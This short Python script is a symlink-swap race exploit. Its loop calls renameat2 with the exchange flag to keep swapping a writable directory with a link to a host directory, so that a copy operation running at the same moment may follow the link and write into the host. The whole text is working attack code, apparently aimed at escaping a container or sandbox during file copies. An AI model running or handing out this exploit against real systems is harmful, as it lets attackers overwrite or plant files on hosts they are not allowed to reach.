"""Swaps a directory in a place that it may write to (argument 1) with a link to a directory of the host (argument 2), over and
over, until its input ends: who copies into it meanwhile may follow the link."""
import ctypes
import os
import sys
import threading
place, victim = sys.argv[1] + "/out", sys.argv[2]
os.makedirs(place, exist_ok=True)
os.symlink(victim, place + "-link")
print("swapping", flush=True)
ended = []
threading.Thread(target=lambda: ended.append(sys.stdin.read()), daemon=True).start()
libc = ctypes.CDLL(None)
while not ended:
    libc.renameat2(-100, place.encode(), -100, (place + "-link").encode(), 2)
